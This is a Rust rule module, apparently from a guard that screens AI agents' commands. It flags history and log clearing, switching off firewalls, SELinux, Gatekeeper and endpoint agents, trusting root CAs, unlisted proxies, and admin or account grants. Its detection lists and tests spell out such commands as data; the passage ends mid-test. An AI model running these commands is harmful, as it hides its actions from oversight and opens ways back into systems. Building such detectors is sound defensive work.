//! Covering tracks and changing who can log in.
//!
//! **What it does:** clearing or disabling shell history (`history -c`, `unset HISTFILE`,
//! `HISTFILE=/dev/null`, `HISTSIZE=0`, `set +o history`, deleting, truncating or linking a
//! history file away) is AUTH (BLOCK in strict and paranoid). Creating, changing or deleting
//! users and groups, or setting passwords (`useradd`, `usermod -aG sudo`, `passwd`,
//! `gpasswd`, `dscl . -create`, `net user /add`) is AUTH.
//! **Why:** an agent has no reason to hide what it typed or to add a way back in; both are
//! what an intruder does right after acting.
//! **Example:** `unset HISTFILE` → `history_tampering`; `sudo useradd -m support` →
//! `account_change`.

use crate::paths;
use crate::verdict::{Finding, Reason, Verdict};

use super::Ctx;

pub const HISTORY_TAMPERING: Reason = Reason::new(
    "history_tampering",
    "Clears or disables the shell history (hides what was run).",
);
pub const SECURITY_OFF: Reason = Reason::new(
    "security_control_off",
    "Switches off an operating-system protection (Gatekeeper, SIP, SELinux, a firewall, auditing).",
);
pub const TLS_CHECKS_OFF: Reason = Reason::new(
    "tls_checks_off",
    "Switches off TLS certificate checks for a tool from now on (a proxy could then read and change its traffic).",
);
pub const ROOT_CA_TRUSTED: Reason = Reason::new(
    "root_ca_trusted",
    "Makes the computer trust a new certificate authority (whoever holds its key can read and change encrypted traffic).",
);
pub const TRAFFIC_PROXIED: Reason = Reason::new(
    "traffic_proxied",
    "Routes a tool's traffic through a proxy nobody listed (whoever runs it can read and change what is sent).",
);
pub const LOGS_CLEARED: Reason = Reason::new(
    "logs_cleared",
    "Erases the system's event logs or journal (what happened can no longer be traced).",
);
pub const ACCOUNT_CHANGE: Reason = Reason::new(
    "account_change",
    "Creates or changes user accounts, groups or passwords.",
);

const HISTORY_VARS: &[&str] = &["HISTFILE", "HISTSIZE", "HISTFILESIZE", "SAVEHIST"];
const ACCOUNT_TOOLS: &[&str] = &[
    "useradd",
    "adduser",
    "usermod",
    "userdel",
    "deluser",
    "groupadd",
    "addgroup",
    "groupmod",
    "groupdel",
    "delgroup",
    "gpasswd",
    "passwd",
    "chpasswd",
    "newusers",
    "chsh",
    "chage",
    "vipw",
    "vigr",
    "sysadminctl",
    "pw",
    // Windows: local and directory accounts and groups.
    "new-localuser",
    "set-localuser",
    "remove-localuser",
    "disable-localuser",
    "enable-localuser",
    "add-localgroupmember",
    "remove-localgroupmember",
    "new-aduser",
    "set-aduser",
    "remove-aduser",
    "disable-adaccount",
    "enable-adaccount",
    "set-adaccountpassword",
    "unlock-adaccount",
    "add-adgroupmember",
    "remove-adgroupmember",
];

/// A history file in a home directory.
fn is_history_file(path: &str, home: Option<&str>) -> bool {
    paths::home_relative(path, home).is_some_and(|rel| {
        let base = paths::basename(rel);
        base.ends_with("_history")
            || base == ".zhistory"
            || base == ".history"
            || base.eq_ignore_ascii_case("ConsoleHost_history.txt")
    })
}

/// An endpoint security agent's service or daemon, by its vendor's name.
fn endpoint_agent(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    [
        "crowdstrike",
        "falcon",
        "sentinelone",
        "sentinel-agent",
        "cbagent",
        "carbonblack",
        "cylance",
        "sophos",
        "wazuh",
        "osquery",
        "com.google.santa",
        "santad",
        "jamf",
        "defender",
        "mdatp",
        "xprotect",
        "elastic-agent",
        "tanium",
    ]
    .iter()
    .any(|v| n.contains(v))
}

/// An operating-system protection switched off: `spctl --master-disable`, `csrutil disable`,
/// `setenforce 0`, `ufw disable`, `auditctl -e 0`, a firewall or audit service stopped.
/// The system's logs erased: Windows event logs (`wevtutil cl Security`, `Clear-EventLog`),
/// the systemd journal cut to nothing (`journalctl --vacuum-time=1s`, `--vacuum-size=1K`,
/// `--vacuum-files=1`), macOS's unified log (`log erase`).
fn clears_logs(inv: &crate::shell::Invocation) -> bool {
    let args: Vec<&str> = inv.argv().collect();
    match inv.program.as_str() {
        "wevtutil" => args
            .first()
            .is_some_and(|a| a.eq_ignore_ascii_case("cl") || a.eq_ignore_ascii_case("clear-log")),
        "clear-eventlog" | "remove-eventlog" => true,
        "log" => args.first() == Some(&"erase"),
        "journalctl" => args.iter().any(|a| {
            let (k, v) = a.split_once('=').unwrap_or((a, ""));
            let v = v.to_ascii_lowercase();
            let digits: String = v.chars().take_while(char::is_ascii_digit).collect();
            let unit = &v[digits.len()..];
            let n: u64 = digits.parse().unwrap_or(u64::MAX);
            match k {
                // Less than a day kept.
                "--vacuum-time" => {
                    matches!(unit, "s" | "sec" | "m" | "min" | "h" | "")
                        || unit.starts_with('d') && n < 1
                }
                // Less than a megabyte kept.
                "--vacuum-size" => matches!(unit, "" | "b" | "k" | "kb" | "kib"),
                "--vacuum-files" => n <= 1,
                _ => false,
            }
        }),
        _ => false,
    }
}

fn security_off(inv: &crate::shell::Invocation) -> bool {
    let args: Vec<&str> = inv.argv().collect();
    let has = |w: &str| args.contains(&w);
    let has_ci = |w: &str| {
        args.iter()
            .any(|a| a.trim_matches(['\'', '"']).eq_ignore_ascii_case(w))
    };
    match inv.program.as_str() {
        // Kernel protections lowered: any process may trace (and read the memory of) any other
        // of the user's, address layout randomisation off, kernel addresses shown.
        "sysctl" => args.iter().any(|a| {
            let kv = a.replace(' ', "");
            [
                "kernel.yama.ptrace_scope=0",
                "kernel.randomize_va_space=0",
                "kernel.kptr_restrict=0",
                "kernel.dmesg_restrict=0",
                "fs.protected_symlinks=0",
                "fs.protected_hardlinks=0",
                "fs.suid_dumpable=1",
                "fs.suid_dumpable=2",
            ]
            .contains(&kv.as_str())
        }),
        // PowerShell scripts run unsigned from now on, for the machine or the user (a
        // `-Scope Process` change ends with the session).
        "set-executionpolicy" => (has_ci("bypass") || has_ci("unrestricted")) && !has_ci("process"),
        // WinRM told to trust every host (`Set-Item WSMan:\localhost\Client\TrustedHosts
        // -Value '*'`).
        "set-item" | "si" => {
            args.iter()
                .any(|a| a.to_ascii_lowercase().contains("trustedhosts"))
                && has_ci("*")
        }
        "spctl" => {
            has("--master-disable") || has("--global-disable") || has("--disable") || has("--add")
        }
        "csrutil" => has("disable"),
        // Gatekeeper's quarantine taken off what was downloaded, or off every download; the
        // screen lock's password; automatic security updates.
        "xattr" => {
            (has("-d") || has("-dr") || has("-rd") || has("-c") || has("-cr") || has("-rc"))
                && (args.contains(&"com.apple.quarantine") || has("-c") || has("-cr") || has("-rc"))
                && (args
                    .iter()
                    .any(|a| a.contains("Downloads") || a.ends_with(".app") || a.ends_with(".app/"))
                    // Everything a listing pipes in (`Get-ChildItem … | Unblock-File`).
                    || args.iter().all(|a| a.starts_with('-')) && (has("-cr") || has("-rc")))
        }
        "defaults" => {
            has("write")
                && ((args.contains(&"com.apple.LaunchServices") && args.contains(&"LSQuarantine"))
                    || (args.iter().any(|a| {
                        matches!(
                            *a,
                            "IDESkipPackagePluginFingerprintValidatation"
                                | "IDESkipPackagePluginFingerprintValidation"
                                | "IDESkipMacroFingerprintValidation"
                        )
                    }) && args.iter().any(|a| matches!(*a, "YES" | "1" | "true")))
                    || (args.iter().any(|a| a.ends_with("com.apple.alf"))
                        && args.windows(3).any(|w| {
                            w.first() == Some(&"globalstate")
                                && (w.get(1) == Some(&"0") || w.get(2) == Some(&"0"))
                        }))
                    || (args.contains(&"com.apple.screensaver")
                        && args.contains(&"askForPassword")
                        && args.iter().any(|a| matches!(*a, "0" | "false" | "NO")))
                    || (args.iter().any(|a| a.contains("SoftwareUpdate"))
                        && args.iter().any(|a| {
                            matches!(
                                *a,
                                "CriticalUpdateInstall"
                                    | "AutomaticCheckEnabled"
                                    | "ConfigDataInstall"
                            )
                        })
                        && args.iter().any(|a| matches!(*a, "0" | "false" | "NO"))))
        }
        "softwareupdate" => args.windows(2).any(|w| w == ["--schedule", "off"]),
        // A cask installed with Gatekeeper's quarantine skipped.
        "brew" => has("--no-quarantine"),
        // macOS: the application firewall off (`defaults write …com.apple.alf globalstate
        // 0`, `socketfilterfw --setglobalstate off`), code signing and library validation
        // off at boot (`nvram boot-args="amfi_get_out_of_my_way=1 …"`), an authorization
        // right opened to anyone (`security authorizationdb write RIGHT allow`), remote
        // login or screen sharing switched on, Gatekeeper told to trust one app
        // (`spctl --add`), Xcode's plugin and macro fingerprint checks skipped.
        "socketfilterfw" => args
            .windows(2)
            .any(|w| matches!(w, ["--setglobalstate" | "--setstealthmode", "off"])),
        "nvram" => args.iter().any(|a| {
            let a = a.to_ascii_lowercase();
            a.starts_with("boot-args")
                && [
                    "amfi_get_out_of_my_way",
                    "cs_enforcement_disable",
                    "amfi_allow_any_signature",
                    "ipc_control_port_options=0",
                ]
                .iter()
                .any(|k| a.contains(k))
        }),
        "security" => {
            args.first() == Some(&"authorizationdb")
                && has("write")
                && args
                    .iter()
                    .any(|a| matches!(*a, "allow" | "authenticate-session-owner-or-admin"))
        }
        "systemsetup" => args
            .windows(2)
            .any(|w| matches!(w, ["-setremotelogin" | "-setremoteappleevents", "on"])),
        "kickstart" => has("-activate") && args.iter().any(|a| a.contains("-allowAccessFor")),
        // A repository's secret scanning or push protection switched off through the API.
        "gh" => {
            has("api")
                && args.iter().any(|a| {
                    let a = a.to_ascii_lowercase();
                    (a.contains("secret_scanning") || a.contains("dependabot_security_updates"))
                        && (a.ends_with("=disabled") || a.ends_with("=false"))
                })
        }
        // A namespace's Pod Security admission set to allow privileged pods.
        "kubectl" | "oc" => {
            has("label")
                && args.iter().any(|a| {
                    a.starts_with("pod-security.kubernetes.io/enforce=")
                        && a.ends_with("=privileged")
                })
        }
        "setenforce" => has("0") || args.iter().any(|a| a.eq_ignore_ascii_case("permissive")),
        "ufw" => has("disable"),
        "auditctl" => args.windows(2).any(|w| w == ["-e", "0"]),
        "systemctl" | "service" => {
            (has("stop") || has("disable") || has("mask"))
                && args.iter().any(|a| {
                    matches!(
                        a.trim_end_matches(".service"),
                        "firewalld"
                            | "ufw"
                            | "auditd"
                            | "apparmor"
                            | "nftables"
                            | "iptables"
                            | "fail2ban"
                            | "clamav-daemon"
                            | "falcon-sensor"
                            | "osqueryd"
                    ) || endpoint_agent(a)
                })
        }
        "iptables" | "ip6tables" => has("-F") && !args.iter().any(|a| a.starts_with("-t")),
        // macOS: an endpoint agent's or a system protection's daemon unloaded.
        "launchctl" => {
            matches!(
                args.first(),
                Some(&("bootout" | "unload" | "disable" | "remove" | "kill"))
            ) && args.iter().any(|a| endpoint_agent(a))
        }
        // The vendors' own switches: `falconctl unload`, `sentinelctl unprotect`.
        "falconctl" => has("unload") || has("uninstall"),
        "sentinelctl" => has("unprotect") || has("unload") || has("uninstall"),
        "santactl" => has("uninstall"),
        _ => false,
    }
}

/// An administrator account made through a framework against production (`manage.py
/// createsuperuser`, `create_superuser(…)` in `manage.py shell -c`, `rails runner
/// "User.create!(admin: true …)"`).
fn production_admin(inv: &crate::shell::Invocation) -> bool {
    let text: String = inv
        .argv()
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase();
    let admin = text.contains("createsuperuser")
        || text.contains("create_superuser")
        || (text.contains("admin: true")
            || text.contains("admin=true")
            || text.contains("is_superuser=true"))
            && (text.contains("create") || text.contains("update"));
    admin && super::service_destructive::names_production(inv)
}

/// An administrator made through a cloud, identity or code-hosting client: a user put in an
/// admin group (`aws cognito-idp admin-add-user-to-group … --group-name Admins`), an owner
/// role assigned (`az role assignment create --role Owner`), an organisation's default
/// permission raised (`gh api -X PATCH orgs/acme -f default_repository_permission=admin`).
/// Profiles, contexts and e-mail addresses named "admin" are not the grant.
fn admin_granted(inv: &crate::shell::Invocation) -> bool {
    if !matches!(
        inv.program.as_str(),
        "aws"
            | "gcloud"
            | "az"
            | "gh"
            | "glab"
            | "auth0"
            | "okta"
            | "doctl"
            | "heroku"
            | "firebase"
            | "supabase"
            | "vercel"
            | "netlify"
            | "kubectl"
            | "oc"
            | "mgc"
            | "keycloak"
            | "kcadm.sh"
            | "vault"
    ) {
        return false;
    }
    let args: Vec<&str> = inv.argv().collect();
    let writes = args.iter().any(|a| {
        matches!(a.to_ascii_uppercase().as_str(), "PATCH" | "PUT" | "POST")
            || a.to_ascii_lowercase().split(['-', '_', ':']).any(|w| {
                matches!(
                    w,
                    "add"
                        | "assign"
                        | "attach"
                        | "grant"
                        | "create"
                        | "update"
                        | "patch"
                        | "set"
                        | "put"
                        | "invite"
                        | "bind"
                        | "binding"
                )
            })
    });
    if !writes {
        return false;
    }
    let mut skip_next = false;
    args.iter().any(|a| {
        if skip_next {
            skip_next = false;
            return false;
        }
        if matches!(
            *a,
            "--profile"
                | "--context"
                | "--project"
                | "--region"
                | "--account"
                | "--subscription"
                | "-p"
                | "--username"
                | "--user-name"
                | "--login"
        ) {
            skip_next = true;
            return false;
        }
        let value = a.rsplit_once('=').map_or(*a, |(_, v)| v);
        !value.contains('@')
            && value
                .to_ascii_lowercase()
                .split(['/', ',', ':', '.', '-', '_', '"', '\''])
                .any(|w| {
                    matches!(
                        w,
                        "admin"
                            | "admins"
                            | "administrator"
                            | "administrators"
                            | "administratoraccess"
                            | "owner"
                            | "owners"
                            | "superuser"
                            | "superadmin"
                    )
                })
    })
}

/// A certificate authority added to an operating-system trust store: `security
/// add-trusted-cert` (macOS), `trust anchor FILE` (p11-kit), `certutil -A … -t C,,` (NSS),
/// `certutil -addstore Root` (Windows). `mkcert -install` (a CA made on this machine, its key
/// kept here) and reading the stores are not.
fn trusts_root_ca(inv: &crate::shell::Invocation) -> bool {
    let args: Vec<&str> = inv.argv().collect();
    match inv.program.as_str() {
        // `Import-Certificate -FilePath x.cer -CertStoreLocation Cert:\LocalMachine\Root`.
        // (Separators dropped: the line may have been read as POSIX, escapes and all.)
        "import-certificate" | "import-pfxcertificate" => args.iter().any(|a| {
            let l: String = a
                .to_ascii_lowercase()
                .chars()
                .filter(|c| !matches!(c, '\\' | '/'))
                .collect();
            l.starts_with("cert:") && l.ends_with("root")
        }),
        "security" => args.first() == Some(&"add-trusted-cert"),
        "trust" => args.first() == Some(&"anchor") && !args.contains(&"--remove"),
        "certutil" | "certutil.exe" => {
            let add = args.contains(&"-A")
                && args.windows(2).any(|w| match w {
                    [flag, trust] => *flag == "-t" && trust.to_ascii_uppercase().contains('C'),
                    _ => false,
                });
            let win = args.windows(2).any(|w| match w {
                [op, store] => {
                    op.eq_ignore_ascii_case("-addstore") && store.eq_ignore_ascii_case("root")
                }
                _ => false,
            });
            add || win
        }
        _ => false,
    }
}

/// A tool's certificate checks switched off in its saved configuration: `git config --global
/// http.sslVerify false`, `npm config set strict-ssl false`, `yarn config set
/// enableStrictSsl false`, `pip config set global.trusted-host …`.
fn tls_off_setting(inv: &crate::shell::Invocation) -> bool {
    let args: Vec<&str> = inv.argv().collect();
    let off = |v: &str| {
        matches!(
            v.to_ascii_lowercase().as_str(),
            "false" | "0" | "no" | "off"
        )
    };
    match inv.program.as_str() {
        "git" => {
            let Some((sub, rest)) = super::git_destructive::git_subcommand(inv) else {
                return false;
            };
            sub == "config"
                && rest.windows(2).any(|w| match w {
                    [k, v] => k.to_ascii_lowercase().ends_with("sslverify") && off(v),
                    _ => false,
                })
        }
        "npm" | "pnpm" | "yarn" | "bun" => {
            args.windows(3).any(|w| match w {
                ["config", "set", kv] => kv
                    .split_once('=')
                    .is_some_and(|(k, v)| k.eq_ignore_ascii_case("strict-ssl") && off(v)),
                _ => false,
            }) || args.windows(4).any(|w| match w {
                ["config", "set", k, v] => {
                    (k.eq_ignore_ascii_case("strict-ssl")
                        || k.eq_ignore_ascii_case("enableStrictSsl"))
                        && off(v)
                }
                _ => false,
            })
        }
        "pip" | "pip3" => args
            .windows(3)
            .any(|w| matches!(w, ["config", "set", k] if k.ends_with("trusted-host"))),
        _ => false,
    }
}

/// `~/.curlrc` given `insecure` / `-k`, `~/.wgetrc` given `check_certificate = off`.
fn tls_off_rc(cx: &Ctx<'_>) -> bool {
    let home = cx.home();
    let rc =
        |p: &str| paths::home_relative(p, home).is_some_and(|r| matches!(r, ".curlrc" | ".wgetrc"));
    let says_off = |t: &str| {
        let t = t.to_ascii_lowercase();
        t.lines().any(|l| {
            let l = l.trim();
            l == "insecure"
                || l == "-k"
                || l == "--insecure"
                || l.replace(' ', "") == "check_certificate=off"
        }) || t.contains("\ninsecure")
    };
    match &cx.action.op {
        crate::action::Operation::FileWrite { path, content } => {
            rc(&paths::normalize(path, cx.cwd(), home)) && says_off(content)
        }
        crate::action::Operation::Shell { command } => {
            cx.fx.writes.iter().any(|w| rc(&w.path))
                && (says_off(command) || command.contains("insecure"))
        }
        _ => false,
    }
}

/// SQL that makes an account an administrator or switches its second factor off
/// (`UPDATE users SET role = 'admin', mfa_required = false WHERE …`, `ALTER USER x
/// SUPERUSER`, `GRANT ALL PRIVILEGES`), mints a credential (`INSERT INTO api_tokens …`),
/// creates a login or grants privileges — sent through an MCP database tool (whose
/// connection may well be production) or a database client.
fn sql_grants_admin(cx: &Ctx<'_>) -> bool {
    let mut texts: Vec<&str> = super::secret_access::sql_texts(cx);
    if let crate::action::Operation::McpCall { arguments, .. } = &cx.action.op
        && let Some(obj) = arguments.as_object()
    {
        texts.extend(
            obj.iter()
                .filter(|(k, _)| k.eq_ignore_ascii_case("command"))
                .filter_map(|(_, v)| v.as_str()),
        );
    }
    texts.into_iter().any(|sql| {
        let c = crate::code::compact(sql);
        // A credential minted for an account (`INSERT INTO api_tokens …`), an account or
        // role created with a login, or privileges granted.
        let lower = sql.to_ascii_lowercase();
        let insert_into = |t: &str| {
            lower.match_indices("insert into").any(|(i, m)| {
                let table: String = lower
                    .get(i + m.len()..)
                    .unwrap_or("")
                    .trim_start()
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '"'))
                    .collect();
                table
                    .trim_matches('"')
                    .rsplit('.')
                    .next()
                    .is_some_and(|n| n.contains(t))
            })
        };
        let mints = [
            "token",
            "api_key",
            "apikey",
            "credential",
            "access_key",
            "ssh_key",
            "deploy_key",
        ]
        .iter()
        .any(|t| insert_into(t));
        let admin_member = ["member", "role", "admin", "permission", "grant"]
            .iter()
            .any(|t| insert_into(t))
            && ["admin", "owner", "superuser", "root"]
                .iter()
                .any(|v| lower.contains(&format!("'{v}'")));
        let creates_login = lower.contains("create user")
            || lower.contains("create role") && lower.contains("login");
        // Privileges granted: anything beyond reading, or anything at all to everyone
        // (`TO anon`, `TO PUBLIC`: Supabase's and PostgreSQL's roles for whoever connects).
        let grants = lower.match_indices("grant ").any(|(i, m)| {
            let rest = &lower[i + m.len()..];
            let Some(to) = rest.find(" to ") else {
                return false;
            };
            let privileges = rest[..to].split(" on ").next().unwrap_or("");
            let grantee: String = rest[to + 4..]
                .trim_start()
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            privileges.split(',').any(|p| p.trim() != "select")
                || matches!(
                    grantee.as_str(),
                    "anon" | "public" | "authenticated" | "everyone"
                )
        });
        let update = c.contains("update") && c.contains(" set ");
        let admin_value = [
            "role=admin",
            "role=superadmin",
            "role=owner",
            "is_admin=true",
            "is_admin=1",
            "is_superuser=true",
            "is_superuser=1",
            "is_staff=true",
            "admin=true",
        ]
        .iter()
        .any(|p| c.contains(p));
        let mfa_off = [
            "mfa_required=false",
            "mfa_enabled=false",
            "two_factor_enabled=false",
            "otp_required=false",
        ]
        .iter()
        .any(|p| c.contains(p));
        (update && (admin_value || mfa_off))
            || c.contains("superuser") && (c.contains("alter user") || c.contains("alter role"))
            || c.contains("grant all privileges")
            || mints
            || admin_member
            || creates_login
            || grants
    })
}

/// A proxy address on another machine that the policy does not list: `http://203.0.113.8:8080`,
/// `203.0.113.5:3128`, `socks5://proxy.example:1080`.
fn unlisted_proxy(cx: &Ctx<'_>, value: &str) -> bool {
    let v = value.trim().trim_matches(['"', '\'', ',', ';', ')']);
    let d = if v.contains("://") {
        crate::net::parse_url(v)
    } else {
        crate::net::parse_destination(v)
    };
    d.is_some_and(|d| !d.is_local() && !d.is_private_ip() && !cx.host_listed(&d.host))
}

/// Traffic sent through a proxy nobody listed: a proxy variable set (`export
/// HTTPS_PROXY=http://203.0.113.8:3128`, for one command or a whole `.envrc`), a tool's
/// proxy setting (`git config --global http.proxy …`, `npm config set proxy …`), or a file
/// written with one (`.cargo/config.toml`'s `[http] proxy`, a `sitecustomize.py` setting
/// `HTTPS_PROXY`). A proxy on this machine or the local network (a corporate one) is not.
fn traffic_proxied(cx: &Ctx<'_>) -> bool {
    let proxy_var = |k: &str| {
        let k = k.to_ascii_uppercase();
        matches!(
            k.as_str(),
            "HTTPS_PROXY" | "HTTP_PROXY" | "ALL_PROXY" | "FTP_PROXY"
        )
    };
    if let Some(sa) = cx.shell {
        for inv in &sa.invocations {
            if inv
                .assignments
                .iter()
                .any(|(k, v)| proxy_var(k) && unlisted_proxy(cx, &v.text))
            {
                return true;
            }
            let args: Vec<&str> = inv.argv().collect();
            let set_var = matches!(
                inv.program.as_str(),
                "export" | "declare" | "typeset" | "setenv" | "launchctl"
            ) && args.iter().any(|a| {
                a.split_once('=')
                    .is_some_and(|(k, v)| proxy_var(k) && unlisted_proxy(cx, v))
            });
            let tool_setting = args.windows(2).any(|w| {
                let k = w
                    .first()
                    .map(|k| k.to_ascii_lowercase())
                    .unwrap_or_default();
                (k.ends_with(".proxy")
                    || k == "proxy"
                    || k == "https-proxy"
                    || k.ends_with("proxy"))
                    && w.get(1).is_some_and(|v| unlisted_proxy(cx, v))
            }) && matches!(
                inv.program.as_str(),
                "git" | "npm" | "pnpm" | "yarn" | "pip" | "pip3" | "conda" | "cargo"
            );
            if set_var || tool_setting {
                return true;
            }
        }
    }
    if let crate::action::Operation::FileWrite { content, .. } = &cx.action.op {
        return content.lines().any(|l| {
            let lower = l.to_ascii_lowercase();
            lower.contains("proxy")
                && !lower.trim_start().starts_with('#')
                && l.split(|c: char| {
                    c.is_whitespace() || matches!(c, '=' | '\'' | '"' | ',' | '(' | ')')
                })
                .filter(|w| {
                    w.contains("://")
                        || w.contains(':') && w.chars().next().is_some_and(|c| c.is_ascii_digit())
                })
                .any(|w| unlisted_proxy(cx, w))
        });
    }
    false
}

pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
    if traffic_proxied(cx) {
        out.push(Finding::new(TRAFFIC_PROXIED, Verdict::Auth));
    }
    if sql_grants_admin(cx) {
        out.push(Finding::new(ACCOUNT_CHANGE, cx.ask_or_block()));
    }
    if cx
        .shell
        .is_some_and(|sa| sa.invocations.iter().any(tls_off_setting))
        || tls_off_rc(cx)
    {
        out.push(Finding::new(
            TLS_CHECKS_OFF,
            cx.mode()
                .pick([Verdict::Pass, Verdict::Auth, Verdict::Auth, Verdict::Block]),
        ));
    }
    if cx
        .shell
        .is_some_and(|sa| sa.invocations.iter().any(clears_logs))
    {
        out.push(Finding::new(LOGS_CLEARED, cx.ask_or_block()));
    }
    if cx
        .shell
        .is_some_and(|sa| sa.invocations.iter().any(trusts_root_ca))
    {
        out.push(Finding::new(ROOT_CA_TRUSTED, cx.ask_or_block()));
    }
    if cx
        .shell
        .is_some_and(|sa| sa.invocations.iter().any(security_off))
    {
        out.push(Finding::new(SECURITY_OFF, cx.ask_or_block()));
    }
    if cx.shell.is_some_and(|sa| {
        sa.invocations
            .iter()
            .any(|i| production_admin(i) || admin_granted(i))
    }) {
        out.push(Finding::new(ACCOUNT_CHANGE, cx.ask_or_block()));
    }
    let home = cx.home();
    let mut tamper = false;
    let mut accounts = false;
    if let Some(sa) = cx.shell {
        for inv in &sa.invocations {
            let args: Vec<&str> = inv.argv().collect();
            let p = inv.program.as_str();
            match p {
                "history" => {
                    tamper |= args
                        .iter()
                        .any(|a| a.starts_with('-') && (a.contains('c') || a.contains('d')))
                        || args.windows(2).any(|w| matches!(w, ["-w", "/dev/null"]));
                }
                "unset" => tamper |= args.iter().any(|a| HISTORY_VARS.contains(a)),
                "set" | "setopt" | "unsetopt" | "shopt" => {
                    tamper |= args.windows(2).any(|w| matches!(w, ["+o", "history"]))
                        || (p == "unsetopt" && args.iter().any(|a| a.contains("hist")))
                        || (p == "setopt" && args.contains(&"no_hist_save"));
                }
                "dscl" => {
                    accounts |= args
                        .iter()
                        .any(|a| matches!(*a, "-create" | "-passwd" | "-append"))
                }
                "net" => {
                    accounts |= matches!(args.first(), Some(&"user") | Some(&"localgroup"))
                        && args.iter().any(|a| a.eq_ignore_ascii_case("/add"))
                }
                _ if ACCOUNT_TOOLS.contains(&p) => accounts = true,
                _ => {}
            }
            for (k, v) in &inv.assignments {
                if HISTORY_VARS.contains(&k.as_str()) {
                    let t = v.text.trim();
                    tamper |= t.is_empty() || t == "/dev/null" || t == "0";
                }
            }
        }
    }
    tamper |= cx.fx.writes.iter().any(|w| is_history_file(&w.path, home))
        || cx.fx.deletes.iter().any(|d| is_history_file(&d.path, home));
    if tamper {
        out.push(Finding::new(
            HISTORY_TAMPERING,
            cx.mode()
                .pick([Verdict::Auth, Verdict::Auth, Verdict::Block, Verdict::Block]),
        ));
    }
    if accounts {
        out.push(Finding::new(ACCOUNT_CHANGE, Verdict::Auth));
    }
}

#[cfg(test)]
mod tests {
    use crate::Verdict::*;
    use crate::policy::Mode;
    use crate::rules::testutil::table;

    #[test]
    fn windows_administration_and_logs() {
        table(
            Mode::Balanced,
            &[
                ("wevtutil cl Security", Auth, "logs_cleared"),
                (
                    "Clear-EventLog -LogName Application,System",
                    Auth,
                    "logs_cleared",
                ),
                ("journalctl --vacuum-time=1s", Auth, "logs_cleared"),
                ("sudo log erase --all", Block, "logs_cleared"),
                (
                    "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope LocalMachine -Force",
                    Auth,
                    "security_control_off",
                ),
                (
                    "Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value '*' -Force",
                    Auth,
                    "security_control_off",
                ),
                (
                    "Import-Certificate -FilePath C:\\t\\proxy-root.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
                    Auth,
                    "root_ca_trusted",
                ),
                (
                    "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=corp,DC=example' | Disable-ADAccount",
                    Auth,
                    "account_change",
                ),
                // Look-alikes: reading logs, keeping weeks of journal, a policy for this
                // session only, a certificate for the user's own store.
                ("wevtutil qe System /c:20 /f:text", Pass, ""),
                ("journalctl --vacuum-time=2weeks", Pass, ""),
                ("journalctl -u nginx --since today", Pass, ""),
                (
                    "Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process -Force",
                    Pass,
                    "",
                ),
                ("Get-Item WSMan:\\localhost\\Client\\TrustedHosts", Pass, ""),
                (
                    "Import-Certificate -FilePath .\\client.cer -CertStoreLocation Cert:\\CurrentUser\\My",
                    Pass,
                    "",
                ),
                (
                    "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=corp,DC=example'",
                    Pass,
                    "",
                ),
            ],
        );
    }

    #[test]
    fn administrators_made_through_cloud_and_identity_clients() {
        table(
            Mode::Balanced,
            &[
                (
                    "aws cognito-idp admin-add-user-to-group --user-pool-id us-east-1_X --username kortega --group-name Admins",
                    Auth,
                    "account_change",
                ),
                (
                    "gh api -X PATCH orgs/acme-corp -f default_repository_permission=admin",
                    Auth,
                    "account_change",
                ),
                (
                    "az role assignment create --assignee 0000-1111 --role Owner --scope /subscriptions/x",
                    Auth,
                    "account_change",
                ),
                // Look-alikes: reading groups, a profile named admin, a reader role.
                (
                    "aws cognito-idp list-users-in-group --user-pool-id us-east-1_X --group-name Admins",
                    Pass,
                    "",
                ),
                (
                    "aws s3 cp build/ s3://acme-site/ --recursive --profile admin",
                    Pass,
                    "",
                ),
                (
                    "gh api repos/acme/api/collaborators/octocat/permission",
                    Pass,
                    "",
                ),
            ],
        );
    }

    #[test]
    fn grants_beyond_reading_or_to_everyone() {
        table(
            Mode::Balanced,
            &[
                (
                    "psql \"$SUPABASE_DB_URL\" -c \"GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public TO anon\"",
                    Auth,
                    "account_change",
                ),
                (
                    "psql \"$DB_URL\" -c \"GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC\"",
                    Auth,
                    "account_change",
                ),
                (
                    "psql \"$DB_URL\" -c \"GRANT SELECT ON reports.daily TO analyst\"",
                    Pass,
                    "",
                ),
            ],
        );
    }

    #[test]
    fn administrators_made_through_a_database_tool() {
        use crate::rules::testutil::{CWD, engine, mcp_call};
        use serde_json::json;
        let e = engine(Mode::Balanced);
        let s = crate::session::SessionState::default();
        for (sql, want) in [
            (
                "UPDATE users SET role = 'admin', mfa_required = false WHERE email = 'x@contractor.example'",
                true,
            ),
            ("ALTER USER reporting WITH SUPERUSER", true),
            ("UPDATE users SET last_login = now() WHERE id = 3", false),
            // A credential minted for an outside account, a login created, access granted.
            (
                "INSERT INTO api_tokens (user_id, token, scopes) VALUES ((SELECT id FROM users WHERE email='helper@contractor.example'), 'at_x', 'admin')",
                true,
            ),
            (
                "INSERT INTO memberships (user_id, org_id, role) VALUES (42, 7, 'owner')",
                true,
            ),
            ("CREATE USER backup WITH PASSWORD 'x'", true),
            ("GRANT pg_read_all_data TO contractor", true),
            // Look-alikes: ordinary rows, read-only grants.
            (
                "INSERT INTO orders (user_id, total) VALUES (42, 19.99)",
                false,
            ),
            (
                "INSERT INTO memberships (user_id, org_id, role) VALUES (42, 7, 'viewer')",
                false,
            ),
            ("GRANT SELECT ON reports TO analyst", false),
            ("SELECT role, count(*) FROM users GROUP BY role", false),
        ] {
            let d = e.decide(
                &mcp_call("postgres", "query", json!({ "sql": sql }), CWD),
                &s,
            );
            assert_eq!(
                d.codes().contains(&"account_change"),
                want,
                "{sql}: {:?}",
                d.codes()
            );
        }
    }

    #[test]
    fn traffic_through_an_unlisted_proxy() {
        use crate::rules::testutil::write_table;
        table(
            Mode::Balanced,
            &[
                (
